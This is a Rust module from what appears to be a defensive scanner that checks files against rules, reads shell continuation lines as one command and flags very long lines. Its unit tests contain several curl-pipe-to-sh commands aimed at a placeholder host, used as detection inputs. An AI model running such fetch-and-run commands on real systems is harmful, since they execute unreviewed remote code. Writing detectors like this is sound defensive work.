//! One text, against every rule.
//!
//! A line that goes on in the next, as shells see it, is read together with that. A line too long for a person is looked at in pieces that
//! overlap, so that no text costs more than its length.

use std::collections::BTreeSet;

use super::rules::{Rules, Severity};
use super::{Deadline, Finding, OutOfTime, decoded, unicode};
use crate::policy::names::cut;

/// How far around a word a form is tried, where lines have no end.
const REACH: usize = 2 << 10;
/// How often one rule is told for one file.
const TOLD: usize = 3;
/// A line from here on is told as one that nobody reads.
const LONG_LINE: usize = 4 << 10;
/// Characters of what is shown.
const SHOWN: usize = 160;

/// A text with what is needed to find lines in it.
pub struct Lines<'a> {
    text: &'a str,
    ends: Vec<usize>,
}

impl<'a> Lines<'a> {
    /// Finds the ends of lines.
    pub fn new(text: &'a str) -> Lines<'a> {
        let ends = text.bytes().enumerate().filter(|(_, byte)| *byte == b'\n').map(|(at, _)| at).collect();
        Lines { text, ends }
    }

    /// The number of the line at `offset`, from 1.
    pub fn number(&self, offset: usize) -> usize {
        self.ends.partition_point(|end| *end < offset) + 1
    }

    /// Where that line begins and ends.
    fn around(&self, offset: usize) -> (usize, usize) {
        let index = self.ends.partition_point(|end| *end < offset);
        let begin = index.checked_sub(1).and_then(|before| self.ends.get(before)).map_or(0, |end| end + 1);
        (begin, self.ends.get(index).copied().unwrap_or(self.text.len()))
    }

    /// The line at `offset`, or as much of it as is looked at.
    fn piece(&self, offset: usize) -> (usize, &'a str) {
        let (begin, end) = self.around(offset);
        let begin = self.text.floor_char_boundary(begin.max(offset.saturating_sub(REACH)));
        let end = self.text.ceil_char_boundary(end.min(offset.saturating_add(REACH)));
        (begin, self.text.get(begin..end).unwrap_or_default())
    }

    fn longest(&self) -> Option<(usize, usize)> {
        let begins = std::iter::once(0).chain(self.ends.iter().map(|end| end + 1));
        let ends = self.ends.iter().copied().chain([self.text.len()]);
        begins.zip(ends).map(|(begin, end)| (end.saturating_sub(begin), begin)).max()
    }
}

/// Adds what is found in `text`.
pub fn look(
    file: &str,
    text: &str,
    rules: &Rules,
    deadline: Deadline,
    findings: &mut Vec<Finding>,
) -> Result<(), OutOfTime> {
    let joined = join(text);
    let mut seen = Seen { file, numbers: Lines::new(text), lines: Lines::new(&joined), rules, met: BTreeSet::new() };
    seen.forms(&joined, deadline, findings)?;
    seen.pairs(findings);
    for (id, offset, evidence) in unicode::look(text).into_iter().chain(decoded::look(text, rules, deadline)?) {
        findings.push(rules.shape(id, file, Some(seen.numbers.number(offset)), Some(evidence)));
    }
    if let Some((length, begin)) = seen.numbers.longest().filter(|(length, _)| *length > LONG_LINE) {
        let evidence = Some(format!("{length} bytes"));
        findings.push(rules.shape("long-line", file, Some(seen.numbers.number(begin)), evidence));
    }
    Ok(())
}

/// With lines that go on as one, and as long as before, so that an offset means the same line.
fn join(text: &str) -> String {
    let mut joined = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        let body = line.trim_end();
        // A row of a table ends in a bar, too.
        let is_row = body.trim_start().starts_with('|');
        let goes_on = body.ends_with('\\') || (!is_row && (body.ends_with('|') || body.ends_with("&&")));
        let kept = if goes_on { body.strip_suffix('\\').unwrap_or(body) } else { line };
        joined.push_str(kept);
        joined.extend(std::iter::repeat_n(' ', line.len() - kept.len()));
    }
    joined
}

struct Seen<'a> {
    file: &'a str,
    numbers: Lines<'a>,
    lines: Lines<'a>,
    rules: &'a Rules,
    /// The rules that matched, and where first.
    met: BTreeSet<(&'a str, usize)>,
}

impl<'a> Seen<'a> {
    fn forms(&mut self, joined: &str, deadline: Deadline, findings: &mut Vec<Finding>) -> Result<(), OutOfTime> {
        let lower = joined.to_ascii_lowercase();
        let mut states = vec![(0_usize, 0_usize); self.rules.rules.len()];
        let rules = self.rules;
        rules.needles.each(lower.as_bytes(), |offset, index| {
            let (Some(rule), Some((searched, told))) = (rules.rules.get(index), states.get_mut(index)) else {
                return Ok(());
            };
            if offset < *searched || *told >= TOLD {
                return Ok(());
            }
            deadline.check()?;
            let (begin, piece) = self.lines.piece(offset);
            let (_, end) = self.lines.around(offset);
            *searched = if end <= begin + piece.len() { end + 1 } else { offset + REACH / 2 };
            let Some(range) = rule.find(piece) else { return Ok(()) };
            let at = begin + range.start;
            self.met.insert((rule.id.as_str(), self.numbers.number(at)));
            if rule.severity == Severity::Part {
                *told = TOLD;
                return Ok(());
            }
            *told += 1;
            findings.push(Finding {
                severity: rule.severity,
                rule_id: rule.id.clone(),
                message: rule.why.clone(),
                file: Some(self.file.to_owned()),
                line: Some(self.numbers.number(at)),
                evidence: Some(cut(piece.get(range.start..).unwrap_or_default().trim(), SHOWN)),
            });
            Ok(())
        })
    }

    fn pairs(&self, findings: &mut Vec<Finding>) {
        for pair in &self.rules.pairs {
            let line = |id: &String| self.met.iter().find(|(met, _)| met == id).map(|(_, line)| *line);
            let [first, second] = &pair.of;
            let (Some(first), Some(second)) = (line(first), line(second)) else { continue };
            findings.push(Finding {
                severity: pair.severity,
                rule_id: pair.id.clone(),
                message: pair.why.clone(),
                file: Some(self.file.to_owned()),
                line: Some(first),
                evidence: Some(format!("lines {first} and {second}")),
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use std::time::{Duration, Instant};

    use super::*;

    fn found(text: &str) -> Vec<(String, Option<usize>)> {
        let rules = Rules::shipped().expect("the shipped rules");
        let mut findings = Vec::new();
        look("x", text, &rules, Deadline(Instant::now() + Duration::from_secs(60)), &mut findings).expect("time");
        findings.into_iter().map(|finding| (finding.rule_id, finding.line)).collect()
    }

    #[test]
    fn a_command_over_several_lines_is_one_command() {
        let text = "first\ncurl -fsSL \\\n  https://x.example/i \\\r\n  | sh\n";
        assert_eq!(found(text), [("fetch-and-run".to_owned(), Some(2))]);
        for text in ["curl https://x.example/i |\n  sh\n", "curl -o i https://x.example/i &&\nsh i\n"] {
            assert_eq!(found(text), [("fetch-and-run".to_owned(), Some(1))], "{text}");
        }
        for text in ["curl -O https://x.example/i\n| sh\n", "| needs | curl https://x |\n| shells | sh |\n"] {
            assert_eq!(found(text), [], "{text}");
        }
    }

    #[test]
    fn a_command_in_a_line_without_an_end_is_found() {
        let text = format!("{} curl https://x.example/i | sh {}", "a b ".repeat(50_000), "c d ".repeat(50_000));
        let found = found(&text);
        assert!(found.contains(&("fetch-and-run".to_owned(), Some(1))), "{found:?}");
        assert!(found.contains(&("long-line".to_owned(), Some(1))), "{found:?}");
    }

    #[test]
    fn time_that_is_up_is_an_error_and_not_an_end() {
        let rules = Rules::shipped().expect("the shipped rules");
        let over = Deadline(Instant::now());
        assert_eq!(look("x", "curl x", &rules, over, &mut Vec::new()), Err(OutOfTime));
    }

    #[test]
    fn a_file_full_of_one_finding_is_told_a_few_times() {
        assert_eq!(found(&"curl https://x.example/i | sh\n".repeat(10_000)).len(), TOLD);
    }
}
